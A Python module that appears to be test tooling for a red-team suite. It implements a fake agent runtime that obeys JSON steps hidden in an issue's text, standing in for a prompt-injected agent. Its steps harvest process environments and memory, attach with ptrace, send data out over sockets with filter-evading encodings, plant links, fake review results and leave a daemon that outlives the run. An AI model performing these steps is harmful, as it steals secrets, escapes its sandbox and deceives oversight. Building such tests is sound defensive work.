"""A runtime that does whatever the issue says: the attacker's hand in the red-team suite.

It speaks the runtime contract (`--headless --context BRIEF --output RESULT`), needs no model, and is configured as

    runtime: {command: [python3, /path/to/obedient_agent.py]}      # with isolation: none

The issue's text holds one fenced block, `steps`, of JSON: a list of steps, done in order. A step is an object with the key
`do` (a key of `STEPS`) and that step's arguments; with `"if_possible": true` the agent goes on where it fails. Texts may
name what an earlier step has found as `@{name}`, and four places: `@{workspace}`, `@{run}` (the folder of the result),
`@{documents}` (the folder of the stages' documents), `@{home}`.

The same module is called in the tests' own process (`obey`), where an attack needs no real one. Standard library only.
"""

import base64
import ctypes
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

FENCE = re.compile(r"^```steps\n(.*?)^```", re.DOTALL | re.MULTILINE)
NAME = re.compile(r"@\{([a-z_0-9]+)\}")
HAND_OFF = ".coven/handoff"
PIECE = 64 * 1024
PATIENCE = 10.0
IPPROTO_MPTCP = 262
PTRACE_SEIZE = 0x4206  # linux/ptrace.h

ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": lambda text: text,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 shifted by one": lambda text: base64.b64encode(b"x" + text.encode()).decode(),
    "base64 shifted by two": lambda text: base64.b64encode(b"xy" + text.encode()).decode(),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "hexadecimal": lambda text: text.encode().hex(),
    "reversed": lambda text: text[::-1],
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "url": lambda text: quote(text, safe=""),
    "split by spaces": " ".join,
    "split by zero-width characters": "\u200b".join,
    "split by lines": "\n".join,
    "a piece": lambda text: text[-16:],
    "escaped": lambda text: "".join(f"\\x{byte:02x}" for byte in text.encode()),
}
RESULT: dict[str, Any] = {
    "contract_version": "3",
    "status": "success",
    "branch": "",
    "commits": [],
    "files_changed": [],
    "summary": "Done.",
    "pr_body": "",
    "review": {
        "mode": "none",
        "evidence_status": "not_applicable",
        "reviewed_files": [],
        "supporting_files": [],
        "findings": [],
        "tests_run": [],
        "no_findings_reason": None,
        "limitations": [],
    },
    "exit_reason": None,
}


class Agent:
    """One run of the agent.

    Args:
        brief: The decoded brief.
        output: Where the result goes.
        workspace: The folder it works in.
        emit: Where what it prints goes.
    """

    def __init__(self, brief: dict[str, Any], output: Path, workspace: Path, emit: Callable[[bytes], object]) -> None:
        self.brief = brief
        self.output = output
        self.workspace = workspace
        self.emit = emit
        self.result: dict[str, Any] | None = dict(RESULT)
        self.loot: dict[str, str] = {
            "workspace": str(workspace),
            "run": str(output.parent),
            "documents": str(output.absolute().parents[2]),
            "home": str(output.absolute().parents[1] / "home"),
        }

    def obey(self) -> None:
        """Do all the steps, then write the result."""
        for step in find_steps(self.brief):
            arguments = self.fill({key: value for key, value in step.items() if key not in {"do", "if_possible"}})
            try:
                STEPS[step["do"]](self, **arguments)
            except OSError:
                if not step.get("if_possible"):
                    raise
                self.loot.setdefault(arguments.get("to", ""), "")
        if self.result is not None:
            self.output.write_text(json.dumps(self.result), encoding="utf-8")

    def fill(self, value: Any) -> Any:
        """Return a value of the steps with every `@{name}` replaced by what is known under that name."""
        if isinstance(value, str):
            return NAME.sub(lambda match: self.loot[match[1]], value)
        if isinstance(value, list):
            return [self.fill(item) for item in value]
        if isinstance(value, dict):
            return {self.fill(key): self.fill(item) for key, item in value.items()}
        return value

    def place(self, path: str) -> Path:
        return self.workspace / path

    # Finding.

    def read(self, path: str, to: str) -> None:
        self.loot[to] = self.place(path).read_text(encoding="utf-8", errors="replace")

    def environments(self, to: str) -> None:
        """Keep this process's environment, and that of every process that lets itself be read."""
        found = [f"{name}={value}" for name, value in os.environ.items()]
        for path in Path("/proc").glob("[0-9]*/environ"):
            try:
                found += path.read_bytes().decode("utf-8", "replace").split("\0")
            except OSError:
                continue
        self.loot[to] = "\n".join(found)

    def command_lines(self, to: str) -> None:
        """Keep the command line of every process that shows itself."""
        self.loot[to] = "\n".join(_read_all(sorted(Path("/proc").glob("[0-9]*/cmdline"))))

    def descriptors(self, pid: str, to: str) -> None:
        """Keep what can be read through the open descriptors of a process."""
        self.loot[to] = "\n".join(_read_all(sorted(Path("/proc").glob(f"{pid}/fd/*"))))

    def memory(self, pid: str, pattern: str, to: str) -> None:
        """Keep what matches in the stack and heap of a process."""
        self.loot[to] = "\n".join(_scan_memory(Path("/proc") / pid, re.compile(pattern.encode())))

    def connect(self, address: str, to: str = "") -> None:
        """Connect to a socket of this machine: a path, or `@name` for one without a path. Keep what it says, or wait for none."""
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(PATIENCE)
            connection.connect("\0" + address[1:] if address.startswith("@") else address)
            self.loot[to] = _read_to_end(connection).decode("utf-8", "replace") if to else ""

    def send(self, protocol: str, host: str, port: int, data: str, to: str = "", finish: bool = True) -> None:
        """Send base64 over the network, and keep the answer, or wait for none.

        `protocol` is `udp`, `tcp`, `mptcp`, or `fastopen`: TCP with data in the first packet. `finish` says by TCP that no
        more will come.
        """
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        kind = socket.SOCK_DGRAM if protocol == "udp" else socket.SOCK_STREAM
        with socket.socket(family, kind, IPPROTO_MPTCP if protocol == "mptcp" else 0) as connection:
            connection.settimeout(PATIENCE)
            if protocol == "udp":
                connection.sendto(base64.b64decode(data), (host, port))
                return
            if protocol == "fastopen":
                connection.settimeout(None)  # else the kernel would say that it is under way, and not send
                connection.sendto(base64.b64decode(data), socket.MSG_FASTOPEN, (host, port))
            else:
                connection.connect((host, port))
                connection.sendall(base64.b64decode(data))
            if finish:
                connection.shutdown(socket.SHUT_WR)
            self.loot[to] = _read_to_end(connection).decode("utf-8", "replace") if to else ""

    def trace(self, pid: str, to: str) -> None:
        """Take hold of a process as a debugger does, and keep its answer: `traced`, or nothing."""
        library = ctypes.CDLL(None, use_errno=True)
        library.ptrace.restype = ctypes.c_long
        number = ctypes.c_long(int(pid))
        seized = library.ptrace(ctypes.c_long(PTRACE_SEIZE), number, None, None) == 0
        self.loot[to] = "traced" if seized else ""

    def find(self, pattern: str, within: str, to: str) -> None:
        match = re.search(pattern, self.loot[within])
        self.loot[to] = match[1] if match else "NOT-FOUND"

    def encode(self, text: str, how: str, to: str) -> None:
        self.loot[to] = ENCODINGS[how](text)

    # Planting.

    def write(self, path: str, text: str = "", encoding: str = "utf-8", mode: int = 0o644) -> None:
        place = self.place(path)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(text.encode(encoding))
        if stat.S_IMODE(place.stat().st_mode) != mode:
            place.chmod(mode)

    def write_name(self, name: str, text: str = "") -> None:
        """Write a file whose name is given as latin-1 text, so that it may be no UTF-8."""
        with open(os.fsencode(self.workspace) + b"/" + name.encode("latin-1"), "wb") as file:  # noqa: PTH123
            file.write(text.encode())

    def sparse(self, path: str, size: int) -> None:
        place = self.place(path)
        place.parent.mkdir(parents=True, exist_ok=True)
        with place.open("wb") as file:
            file.truncate(size)

    def remove(self, path: str) -> None:
        place = self.place(path)
        if place.is_dir() and not place.is_symlink():
            shutil.rmtree(place)
        else:
            place.unlink(missing_ok=True)

    def rename(self, path: str, to: str) -> None:
        self.place(to).parent.mkdir(parents=True, exist_ok=True)
        self.place(path).rename(self.place(to))

    def chmod(self, path: str, mode: int) -> None:
        self.place(path).chmod(mode)

    def symlink(self, path: str, to: str) -> None:
        self.place(path).parent.mkdir(parents=True, exist_ok=True)
        self.place(path).symlink_to(to)

    def hardlink(self, path: str, to: str) -> None:
        self.place(path).parent.mkdir(parents=True, exist_ok=True)
        self.place(path).hardlink_to(self.place(to))

    def pipe(self, path: str) -> None:
        self.place(path).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(self.place(path))

    def command(self, argv: list[str], within: str = ".", to: str = "") -> None:
        """Run a program in a folder of the workspace, and take no offence at its failing; keep what it prints."""
        environment = {**os.environ, "GIT_AUTHOR_NAME": "agent", "GIT_AUTHOR_EMAIL": "agent@example.invalid",
                       "GIT_COMMITTER_NAME": "agent", "GIT_COMMITTER_EMAIL": "agent@example.invalid"}  # fmt: skip
        done = subprocess.run(
            argv, cwd=self.place(within), env=environment, capture_output=True, check=False, timeout=60
        )
        self.loot[to] = done.stdout.decode("utf-8", "replace")

    # Telling.

    def hand_off(self, text: str, name: str = "pull-request.md") -> None:
        self.write(f"{HAND_OFF}/{name}", text)

    def tell(self, **fields: Any) -> None:
        """Say something in the result."""
        self.result = {**(self.result or RESULT), **fields}

    def claim(self, **fields: Any) -> None:
        """Say something in the result's review."""
        self.tell(review={**RESULT["review"], **fields})

    def withhold(self) -> None:
        """Write no result."""
        self.result = None

    def say(self, text: str) -> None:
        self.emit(text.encode() + b"\n")

    def flood(self, size: int) -> None:
        piece = b"flood " * 1000 + b"\n"
        for _ in range(size // len(piece) + 1):
            self.emit(piece)

    # Staying.

    def linger(self, path: str, text: str, after: float) -> None:
        """Leave a daemon behind that writes a file some seconds later, wherever it is by then."""
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        for descriptor in range(3):
            os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
        time.sleep(after)
        self.write(path, text)
        os._exit(0)


STEPS: dict[str, Callable[..., None]] = {
    name: getattr(Agent, name)
    for name in (
        "read", "environments", "command_lines", "descriptors", "memory", "connect", "send", "trace", "find", "encode",
        "write", "write_name", "sparse", "remove", "rename", "chmod", "symlink", "hardlink", "pipe", "command", "hand_off",
        "tell", "claim", "withhold", "say", "flood", "linger",
    )
}  # fmt: skip


def _read_all(paths: list[Path]) -> list[str]:
    found = []
    for path in paths:
        try:
            if stat.S_ISREG(path.stat().st_mode):
                with path.open("rb") as file:
                    found.append(file.read(PIECE).decode("utf-8", "replace"))
        except OSError:
            continue
    return found


def _scan_memory(folder: Path, pattern: "re.Pattern[bytes]") -> list[str]:
    """Return what matches in one process. The kernel lists its memory in `maps`, and shows it in `mem`."""
    found = []
    for line in (folder / "maps").read_text().splitlines():
        if not line.endswith(("[stack]", "[heap]")):
            continue
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        with (folder / "mem").open("rb", buffering=0) as memory:
            memory.seek(start)
            found += [match.decode("utf-8", "replace") for match in pattern.findall(memory.read(end - start))]
    return found


def _read_to_end(connection: socket.socket) -> bytes:
    """Return what comes until the other side has ended, or is silent for too long."""
    data = b""
    try:
        while chunk := connection.recv(PIECE):
            data += chunk
    except OSError:
        pass
    return data


def find_steps(brief: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the steps that the task's text orders; none where it orders nothing."""
    task = brief["task"]
    match = FENCE.search(f"{task.get('issue_body') or task.get('comment_body') or ''}\n")
    return json.loads(match[1]) if match else []


def write_steps(*steps: dict[str, Any], lead: str = "Please mend this.") -> str:
    """Return an issue's text that orders the steps."""
    return f"{lead}\n\n```steps\n{json.dumps(list(steps), indent=1)}\n```\n"


def main(argv: list[str]) -> int:
    """Do what the brief says."""
    brief = json.loads(Path(argv[argv.index("--context") + 1]).read_bytes())
    output = Path(argv[argv.index("--output") + 1])
    Agent(brief, output, Path.cwd(), sys.stdout.buffer.write).obey()
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
